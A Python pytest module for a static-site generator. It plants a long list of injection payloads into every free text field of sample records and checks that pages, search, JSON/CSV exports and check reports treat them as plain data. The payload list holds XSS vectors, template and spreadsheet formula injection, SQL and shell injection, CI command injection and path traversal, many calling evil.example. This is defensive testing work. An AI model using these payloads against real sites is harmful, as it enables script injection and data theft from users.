"""Text from a record is data everywhere: in pages, tables, search and reports, whatever it looks like.

A city is built twice: with harmless words in every text field of every record, and with what somebody
could write there to take over a page. Apart from these texts the two sites must be the same, element by
element. Every text ends in ``㊀`` and its number: so it is found again and compared character by character.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from generator.cli.serve import Shown, serving
from generator.model.diagnostic import Severity
from generator.pipeline import check
from generator.read.sources import Memory
from tests.support.site import (
    Built,
    Page,
    build,
    generator,
    kind_of,
    load,
    pages,
    published_files,
    record_files,
    save,
    schemas,
)

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PAYLOADS = (
    # --- elements and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=java&Tab;script&colon;alert(1)></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=q>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript&colon;alert(1)>点我</a>",
    "<b>粗</b><i>斜</i><u>线</u>",
    "<math><mtext></mtext><mglyph><svg><mtext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><slot name=x></slot></template>",
    "<x-tag onclick=alert(1)>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><html><body>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style></textarea></select></table>",
    "</td></tr></table><h1>假标题</h1>",
    "</article></main></body></html>",
    "</a></span></div></p>",
    "</option></select>",
    # --- elements and handlers that filters have overlooked
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\\x3dalert(1)>",
    '<img src="x" onerror="alert&lpar;1&rpar;">',
    "<img srcset=x onerror=alert(1) alt=校徽>",
    "<ImG sRc=x OnErRoR=alert`1`>",
    "<<img src=x onerror=alert(1)//<",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><a xlink:href=//evil.example><text>点我</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><style>@import '//evil.example/x.css';</style>",
    "<math href=//evil.example>式</math>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>提交</button>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=//evil.example>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<dialog open>假提示</dialog>",
    "<table background=//evil.example/x.png>",
    "<div style=background:url(//evil.example/x.png)>",
    "<div style='width:expression(alert(1))'>",
    "<a href=//evil.example target=_blank ping=//evil.example>点我</a>",
    "<a href='https://evil.example' rel=opener>点我</a>",
    "<label for=search>搜索</label>",
    "<h1>假标题</h1><p>假正文</p>",
    "<br><hr><wbr>",
    "<plaintext>",
    "<xmp><listing>",
    "<frameset onload=alert(1)><frame src=x>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<select><template shadowrootmode=open><script>alert(1)</script>",
    "<p id=__md_scope data-md-component=announce>",
    # --- out of an attribute
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" style="position:fixed;inset:0',
    '" data-slot="content',
    "x onclick=alert(1) y",
    "`onclick=alert(1)`",
    "' style='color:red' x='",
    '" autofocus tabindex=1 onfocus="alert(1)',
    '"/><script>alert(1)</script><x y="',
    "' -- \" /> <b",
    '" hidden aria-hidden="true',
    '" href="//evil.example" x="',
    # --- addresses
    "javascript&colon;alert(1)",
    "java\\x73cript:alert(1)",
    "mailto:x?body=1",
    "//evil.example/x",
    "https://evil.example/?a=1&b=2",
    "../../../../etc/passwd",
    "\\\\server\\share",
    "#top?x=1&copy=2",
    "j&#97;vascript&#58;alert(1)",
    "https:evil.example",
    "/\\evil.example",
    "%2F%2Fevil.example",
    "www.evil.example",
    "?x=<script>&y=1#<b>",
    # --- entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "&#x3c;b&#x3e;",
    "&amp;amp;&nbsp;&copy",
    "A&B;C&D",
    "&",
    # --- template and marker languages
    "{{ 7*7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in y %}{% endfor %}",
    "{% raw %}",
    "{# 注释 #}",
    "{% include 'macros.html.j2' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d",
    "{name} {0} {}",
    "{count:>1000000}",
    "[[ 7*7 ]]",
    "@@title@@",
    "@@provenance@@",
    "@@head@@@@notice@@",
    "@@title",
    '<div data-slot="content">x</div>',
    "data-slot=x",
    "[SEARCH_TERM] [COUNT]",
    '--8<-- "mkdocs.yml"',
    "-8<- records/bureau.yml",
    "::: generator.pipeline",
    "!!! danger 假警告",
    "???+ note",
    ":material-account:",
    # --- Markdown
    "[点我](//evil.example)",
    "![图](//evil.example/x.png)",
    "<https://evil.example>",
    "**粗** _斜_ `码` ~~删~~",
    "# 标题",
    "## 标题 {: #x onclick=alert(1)}",
    "| 甲 | 乙 | 丙 |",
    "|---|---|",
    "- [ ] 项",
    "1. 项",
    "> 引",
    "```html",
    "~~~",
    "[^1]: 注",
    "*[HTML]: 超文本",
    "[甲]: //evil.example",
    "***",
    "\\*不是斜体\\*",
    "$x^2$ $$y$$ \\(z\\)",
    "[点我](<//evil.example> '题')",
    "[点我][甲] ![图][甲]",
    "<script>",
    '=== "选项"',
    "+++ 层",
    "==亮== ^^上^^ H~2~O",
    "++ctrl+c++",
    "(c) (tm) --> 1/2",
    "{++加++}{--减--}{>>注<<}",
    "[[内链]] [[TOC]] [TOC]",
    "<details markdown='1'>",
    "!!python/name:os.system",
    # --- spreadsheets
    '=HYPERLINK("//evil.example","点我")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "=IMPORTXML(1)",
    "＝1＋1",
    '甲;乙,丙"丁"',
    '"甲","乙"',
    "=cmd|'/C calc'!A0",
    "\u2212\u0031+1",
    "＠SUM(1)",
    "%0A=1+1",
    # --- scripts and shells
    "'; DROP TABLE schools; --",
    "$(reboot) `reboot` | reboot",
    "\\x3cscript\\x3e \\u003cscript\\u003e",
    "\\",
    "\\n\\t\\0",
    "%3Cscript%3E%00",
    "__proto__ constructor toString",
    "null undefined NaN true",
    "::error file=x,line=1::假",
    "##[error]假",
    "::set-output name=x::y",
    "@everyone #1 GH-1",
    # --- writing
    "שלום مرحبا",
    "😀🎉𠮷𪚥",
    "e\u0301a\u0308 ﬁ ﷺ",
    "ＡＢＣ１２３，。！",
    "İıſK",
    "„“”‚‘’«»",
    "–—−‑",
    "\u3000",
    "a" * 60,
    "甲乙丙丁戊己庚辛" * 6,
)
"""Things to write into a field; more than eight characters of room are needed for the number after them."""

REFUSED = {
    "\x1b[31m红\x1b[0m": "YML005",
    "\x07": "YML005",
    "甲\x00乙": "YML005",
    "\u202e反": "YML007",
    "\u2066隔\u2069": "YML007",
    "零\u200b宽": "YML008",
    "软\u00ad连": "YML008",
    "私\ufffe用": "YML009",
    "坏\ufffd字": "YML010",
    "http://evil.example/": "TXT005",
    "javascript:alert(1)": "TXT005",
    "<a href=JaVaScRiPt:alert(1)>点我</a>": "TXT005",
    "[点我](javascript:alert(1))": "TXT005",
    "vbscript:msgbox(1)": "TXT005",
    "data:text/html,<script>alert(1)</script>": "TXT005",
    "[点我](data:text/html;base64,PHNjcmlwdD4=)": "TXT005",
    "受到表" + "彰": "AWD008",
}
"""What no text may hold, and by which code it is refused."""

EXCEPT = {"bureau.organ_codes[].series", "bureau.organ_codes[].code", "documents.number", "documents.series"}
"""Texts with rules of their own: document numbers and what they are checked against."""

FOLLOWS = {"projects.result.measure": ("goal", "measure")}
"""Texts that must say the same as another of their record."""

MARK = re.compile(r"㊀(\d{5})")
DIGEST = re.compile(r"\b(?=[0-9a-f]*[a-f])[0-9a-f]{12,64}\b")


@dataclass(frozen=True)
class Twins:
    """Two sites of one city; number -> the text that stands in each."""

    mild: Built
    wild: Built
    mild_texts: Mapping[str, str]
    wild_texts: Mapping[str, str]


def text_fields(schema: Mapping[str, Any], data: Any, path: str) -> Iterator[tuple[Any, Any, str, int]]:
    """Container, key, path and room of every text in *data* that its writer is free in."""
    if schema.get("type") == "array" and isinstance(data, list):
        for index, value in enumerate(data):
            if isinstance(value, str) and is_free(schema["items"]):
                yield data, index, f"{path}[]", schema["items"].get("maxLength", 100)
            yield from text_fields(schema["items"], value, f"{path}[]")
    elif schema.get("type") == "object" and isinstance(data, dict):
        for name, below in schema.get("properties", {}).items():
            place = f"{path}.{name}"
            if isinstance(data.get(name), str) and is_free(below):
                yield data, name, place, below.get("maxLength", 100)
            yield from text_fields(below, data.get(name), place)


def is_free(schema: Mapping[str, Any]) -> bool:
    """May anything be written there?"""
    closed = ("pattern", "format", "oneOf", "enum", "const", "x-reference", "x-document-number", "$ref")
    return schema.get("type") == "string" and not any(word in schema for word in closed)


def enrich(root: Path) -> None:
    """Give every record a note, and the city what a small one lacks: withdrawn and cancelled records."""
    for path in record_files(root):
        data = load(path)
        data["note"] = "说明"
        save(path, data)
    award, *_ = sorted((root / "records" / "awards").rglob("*.yml"))
    save(award, load(award) | {"withdrawn": {"date": "2025-12-09", "reason": "重复"}})
    done = [
        p for p in sorted((root / "records" / "inspections").rglob("*.yml")) if load(p)["status"] == "done"
    ]
    save(done[0], load(done[0]) | {"withdrawn": {"date": "2025-12-09", "reason": "录错"}})
    cancelled = {k: v for k, v in load(done[1]).items() if k not in ("date", "results", "findings")}
    cancelled |= {"status": "cancelled", "cancelled": {"date": "2025-12-09", "reason": "停课"}}
    save(
        done[1], {k: v for k, v in cancelled.items() if k not in ("checklist_digest", "strengths", "summary")}
    )


def plant(root: Path) -> tuple[dict[str, str], dict[str, str], dict[str, dict[str, Any]]]:
    """Harmless texts into *root*; gives both lists of texts and the records with the wild ones."""
    mild: dict[str, str] = {}
    wild: dict[str, str] = {}
    records = {}
    turn: dict[str, int] = {}
    for path in published_files(root):
        kind = kind_of(path, root)
        tame = load(path)
        save_as = json.loads(json.dumps(tame, default=float))
        raw = schemas()[kind].raw
        pairs = zip(text_fields(raw, tame, kind), text_fields(raw, save_as, kind), strict=True)
        for (box, key, place, room), (twin, _, _, _) in pairs:
            fitting = [p for p in PAYLOADS if len(p) + 6 <= room]
            if place in FOLLOWS:
                other, field = FOLLOWS[place]
                box[key], twin[key] = tame[other][field], save_as[other][field]
            if place in EXCEPT or place in FOLLOWS or not fitting:
                continue
            turn[place] = turn.get(place, len(turn)) + 1
            number = f"{len(mild):05d}"
            payload = fitting[turn[place] % len(fitting)]
            wild[number] = payload + f"㊀{number}"
            mild[number] = "文" * len(payload) + f"㊀{number}"
            box[key], twin[key] = mild[number], wild[number]
        save(path, tame)
        records[path.relative_to(root).as_posix()] = save_as
    return mild, wild, records


@pytest.fixture(scope="module")
def twins(tmp_path_factory: pytest.TempPathFactory) -> Twins:
    """The two cities, built."""
    base = tmp_path_factory.mktemp("twins")
    mild, wild = base / "mild", base / "wild"
    done = generator("init", mild, "--sample", "--schools", "10", "--inspections", "16")
    assert done.returncode == 0, done.stderr
    enrich(mild)
    mild_texts, wild_texts, records = plant(mild)
    shutil.copytree(mild, wild, symlinks=True)
    for path, data in records.items():
        save(wild / path, data)
    assert {text[:-6] for text in wild_texts.values()} == set(PAYLOADS), "not every payload found a field"
    return Twins(build(mild, base / "a"), build(wild, base / "b"), mild_texts, wild_texts)


def numbered(text: str, texts: Mapping[str, str]) -> str:
    """*text* with each planted text that stands there whole replaced by its number, and without digests."""
    text = DIGEST.sub("⟦digest⟧", text)
    parts, end = [], 0
    for match in MARK.finditer(text):
        whole = texts[match[1]]
        start = match.end() - len(whole)
        if start >= end and text[start : match.end()] == whole:
            parts.append(f"{text[end:start]}⟦{match[1]}⟧")
            end = match.end()
    return "".join([*parts, text[end:]])


def settled(value: Any, texts: Mapping[str, str]) -> Any:
    """*value* with the planted texts in all its strings replaced by their numbers."""
    if isinstance(value, str):
        return numbered(value, texts)
    if isinstance(value, list | tuple):
        return [settled(one, texts) for one in value]
    if isinstance(value, dict):
        return {key: settled(one, texts) for key, one in value.items()}
    return value


def first_difference(mild: list[Any], wild: list[Any]) -> str:
    """Where two lists of tokens part, or "" where they are equal."""
    for one, other in zip(mild, wild, strict=False):
        if one != other:
            return f"{str(one)[:300]} ≠ {str(other)[:300]}"
    return "" if len(mild) == len(wild) else f"{len(mild)} ≠ {len(wild)} tokens"


# Its lines say what is noticeable about the texts themselves, so the two differ in their number.
NOTICED = "quality/index.html"


def test_pages_differ_in_their_texts_only(twins: Twins) -> None:
    """As a parser of another make than the browser's sees them: each text stands where its twin does."""
    wild = dict(pages(twins.wild.site))
    faults, shown = [], set()
    for path, page in pages(twins.mild.site):
        ours = settled(page.tokens, twins.mild_texts)
        theirs = settled(wild.pop(path).tokens, twins.wild_texts)
        shown |= set(re.findall(r"⟦(\d{5})⟧", json.dumps(ours, ensure_ascii=False)))
        if path != NOTICED and (difference := first_difference(ours, theirs)):
            faults.append(f"{path}: {difference}")
    assert not wild
    assert not faults, "\n".join(faults[:10])
    assert len(shown) > 500


def test_the_page_of_what_is_noticed_gets_no_new_markup(twins: Twins) -> None:
    """More lines are fine there, another kind of element or attribute is not."""
    found = []
    for built in (twins.mild, twins.wild):
        page = Page.of(built.site / NOTICED)
        found.append({(tag, name) for tag, values in page.attributes for name in ("", *values)})
    allowed = {
        (tag, name) for _, page in pages(twins.mild.site) for tag, v in page.attributes for name in ("", *v)
    }
    assert found[1] <= found[0] | allowed


def test_a_browser_sees_the_same(twins: Twins, browser: Browser) -> None:
    """Chromium's own parser decides what is an element; nothing is run and nothing is fetched here."""
    script = """html => {
        const list = [];
        const walk = node => {
            if (node.nodeType === 3) list.push(node.data);
            else if (node.nodeType === 8) list.push("comment", node.data);
            else list.push(node.nodeName, ...Array.from(node.attributes || [], a => [a.name, a.value])
                .flat());
            const inside = node instanceof HTMLTemplateElement ? node.content : node;
            for (const child of inside.childNodes) walk(child);
        };
        walk(new DOMParser().parseFromString(html, "text/html"));
        return list.join("\u0001");
    }"""
    page = browser.new_page()
    faults = []
    for path, _ in pages(twins.mild.site):
        mild, wild = (
            numbered(page.evaluate(script, (built.site / path).read_text(encoding="utf-8")), texts)
            for built, texts in ((twins.mild, twins.mild_texts), (twins.wild, twins.wild_texts))
        )
        if path != NOTICED and mild != wild:
            difference = first_difference(mild.split("\u0001"), wild.split("\u0001"))
            faults.append(f"{path}: {difference}")
    page.close()
    assert not faults, "\n".join(faults[:10])


def test_a_browser_runs_nothing_and_asks_nobody(twins: Twins, browser: Browser) -> None:
    """Pages of every kind, opened as a reader does, with our own scripts at work on the texts."""
    one_of_each = {path.parent.parent: path for path in twins.wild.site.rglob("*/*/index.html")}
    opened = ["", *(p.parent.relative_to(twins.wild.site).as_posix() + "/" for p in one_of_each.values())]
    opened += [f"{p.parent.name}/" for p in twins.wild.site.glob("*/index.html")]
    spoken: list[str] = []
    asked: list[str] = []
    with serving(Shown(twins.wild.site), "127.0.0.1", 0) as address:
        page = browser.new_page()
        page.on("dialog", lambda dialog: (spoken.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: spoken.append(str(error)))
        page.on("request", lambda request: asked.append(request.url))
        for path in dict.fromkeys(opened):
            page.goto(address + path)
            for field in page.locator("[data-filter]:visible, .find input:visible").all():
                field.fill("文")
                field.fill("")
            for sorter in page.locator(".sorter:visible").all()[:3]:
                sorter.click()
        for words in ("alert", "script", "onerror", "evil", "㊀"):
            page.goto(address)
            page.locator("#site-search-input").fill(words)
            page.keyboard.press("Enter")
            page.locator(".search-dialog .pagefind-ui__message").wait_for()
            foreign = page.locator(".search-dialog").locator(
                "img, iframe, script, svg[onload], [onerror], [onload]"
            )
            assert foreign.count() == 0, words
        page.close()
    assert spoken == []
    assert [url for url in asked if not url.startswith((address, "data:", "blob:"))] == []


def test_tables_hold_the_texts_as_they_are(twins: Twins) -> None:
    """JSON to the letter; CSV too, but for a sign in front of what a spreadsheet would compute."""
    defused = 0
    for path in sorted((twins.mild.site / "data").glob("*.json")):
        mild = settled(json.loads(path.read_bytes()), twins.mild_texts)
        wild = settled(json.loads((twins.wild.site / "data" / path.name).read_bytes()), twins.wild_texts)
        assert first_difference(mild.get("rows", []), wild.get("rows", [])) == "", path.name
    for path in sorted((twins.mild.site / "data").glob("*.csv")):
        mild_rows = rows(path, twins.mild_texts)
        wild_rows = rows(twins.wild.site / "data" / path.name, twins.wild_texts)
        assert len(mild_rows) == len(wild_rows), path.name
        for ours, theirs in zip(mild_rows, wild_rows, strict=True):
            for one, other in zip(ours, theirs, strict=True):
                assert other.removeprefix("'") == one, f"{path.name}: {one} ≠ {other}"
                match = re.match(r"'?⟦(\d{5})⟧", other)
                if match:
                    formula = twins.wild_texts[match[1]][0] in "=+-@\t\r＝＋－＠"
                    assert other.startswith("'") == formula, twins.wild_texts[match[1]]
                    defused += formula
    assert defused > 50


def rows(path: Path, texts: Mapping[str, str]) -> list[list[str]]:
    """The cells of a CSV file, settled."""
    reader = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    return [[numbered(cell, texts) for cell in row] for row in reader]


@pytest.mark.parametrize("form", ["text", "json", "github", "markdown"])
def test_reports_are_not_steered_by_texts(twins: Twins, form: str) -> None:
    """What stands in a record begins no line of a log and no command of a forge."""
    done = generator("--root", twins.wild.root, "check", "--format", form)
    assert done.returncode == 0
    for line in done.stdout.splitlines():
        assert not re.match(r"(::(?!warning |notice |error file=records/)|##\[)", line), line
        assert "\x1b" not in line
        if form == "markdown":
            assert not re.search(r"(?<![\\`])<(?!br>)[a-zA-Z/!]", re.sub(r"`[^`]*`", "", line)), line


@pytest.mark.parametrize(("text", "code"), REFUSED.items(), ids=map(ascii, REFUSED))
@pytest.mark.parametrize("quoted", [True, False], ids=["escaped", "plain"])
def test_what_no_reader_could_see_is_refused(sample: Built, text: str, code: str, quoted: bool) -> None:
    """Signs that cannot be seen, or change how others are seen, never come into a site."""
    path = next(p for p in record_files(sample.root) if kind_of(p, sample.root) == "awards")
    name = path.relative_to(sample.root).as_posix()
    written = json.dumps(text) if quoted else f'"{text}"'
    content = path.read_text(encoding="utf-8") + f"note: {written}\n"
    schema_files = {f"schemas/{p.name}": p.read_bytes() for p in (sample.root / "schemas").iterdir()}
    bureau = (sample.root / "records" / "bureau.yml").read_bytes()
    files: dict[str, str | bytes] = {**schema_files, "records/bureau.yml": bureau, name: content}
    found = check(Memory(files)).diagnostics
    assert code in {d.code for d in found if d.location.path == name and d.severity is Severity.ERROR}
